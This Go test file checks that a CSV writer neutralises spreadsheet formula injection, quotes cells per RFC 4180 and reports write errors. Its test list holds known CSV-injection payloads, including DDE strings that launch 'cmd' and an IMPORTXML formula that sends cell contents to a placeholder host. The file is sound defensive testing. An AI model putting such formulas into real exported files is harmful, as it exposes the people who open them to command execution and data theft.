// Copyright The otelcol-usage Authors
// SPDX-License-Identifier: Apache-2.0

package sheet

import (
	"encoding/csv"
	"errors"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"
)

// write writes rows and reads them back as any reader of CSV does.
func write(t *testing.T, rows ...[]Cell) (text string, back [][]string) {
	t.Helper()
	var b strings.Builder
	c := NewCSV(&b, "name")
	for _, row := range rows {
		c.Row(row...)
	}
	require.NoError(t, c.Close())
	r := csv.NewReader(strings.NewReader(b.String()))
	r.FieldsPerRecord = -1
	back, err := r.ReadAll()
	require.NoError(t, err)
	return b.String(), back[1:]
}

// What OWASP and others name as formulas and commands of spreadsheets.
var formulas = []string{
	`=cmd|' /C calc'!A0`,
	`=HYPERLINK("http://x","y")`,
	`=1+1`,
	`+1+1`,
	`-1+1`,
	`-5`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	"\t=1+1",
	"\r=1+1",
	"\n=1+1",
	"\ttext",
	"\rtext",
	` =1+1`,
	"\u00a0=1+1",
	"\u200b=1+1",
	"\ufeff=1+1",
	"\x00=1+1",
	`"=1+1`,
	` "=1+1"`,
	`＝1+1`,
	`＋1`,
	`－1`,
	`＠SUM(1)`,
	`=DDE("cmd";"/C calc";"__DdeLink_60_870516294")`,
	`=IMPORTXML(CONCAT("http://x/?v=", CONCATENATE(A2:E2)), "//a/a10")`,
	`+4915112345678`,
}

func TestFormulasAreReadBackAsText(t *testing.T) {
	for _, formula := range formulas {
		_, back := write(t, []Cell{Text(formula), Text("next")})
		require.Equal(t, "next", back[0][1])
		require.Equal(t, "'", back[0][0][:1], "%q", formula)
		rest := strings.ReplaceAll(strings.ReplaceAll(back[0][0], "'=", "="), "'", "")
		require.Equal(t, strings.ReplaceAll(formula, "'", ""), rest, "nothing else is changed")
	}
}

// A spreadsheet whose separator is the semicolon sees another begin of cells.
func TestNoPartOfATextIsAFormula(t *testing.T) {
	for text, want := range map[string]string{
		"a;=1+1":        "a;'=1+1",
		"a; =1+1;-2;b":  "a;' =1+1;'-2;b",
		"a\r\nb\n- c":   "a\nb\n'- c", // a reader makes one line end of two
		"a\n=1+1":       "a\n'=1+1",
		"a\t=1+1":       "a\t'=1+1",
		"\ta":           "'\ta",
		`a";=1+1`:       `a";'=1+1`,
		"=1;=2":         "'=1;'=2",
		"x;":            "x;",
		";":             ";",
		";=":            ";'=",
		"a=b":           "a=b",
		"a-b;c+d@e":     "a-b;c+d@e",
		"ops@acme.test": "ops@acme.test",
		"late event: 3": "late event: 3",
		"":              "",
		"Zoë":           "Zoë",
		"'=1":           "'=1",
	} {
		_, back := write(t, []Cell{Text(text), Text("next")})
		require.Equal(t, []string{want, "next"}, back[0], "%q", text)
	}
}

func TestNumbersStayNumbers(t *testing.T) {
	for _, n := range []string{"0", "-3", "12.5", "-0.000001", "9200000000000.000001", "1e+21", "-1E-7"} {
		text, _ := write(t, []Cell{Number(n), Number("1")})
		require.Equal(t, "name\n"+n+",1\n", text)
	}
	for _, none := range []string{"-", "+1", "=1", "-1+1", "-Inf", "--1", "-1\n"} {
		_, back := write(t, []Cell{Number(none)})
		require.Equal(t, "'"+none, back[0][0], "what is no number is a text")
	}
}

func TestCellsAreQuotedByRFC4180(t *testing.T) {
	text, _ := write(t,
		[]Cell{Text("a, b"), Text(`say "no"`), Text("two\nlines"), {}, Time(time.Date(2026, 10, 1, 2, 3, 4, 0, time.FixedZone("", 7200)))},
		[]Cell{Text("c")})
	require.Equal(t, "name\n\"a, b\",\"say \"\"no\"\"\",\"two\nlines\",,2026-10-01T02:03:04+02:00\nc\n", text)
}

type full struct{}

func (full) Write([]byte) (int, error) { return 0, errors.New("disk is full") }

func TestCloseSaysWhatCouldNotBeWritten(t *testing.T) {
	c := NewCSV(full{}, "name")
	c.Row(Text(strings.Repeat("x", 10_000)))
	require.EqualError(t, c.Close(), "disk is full")
}
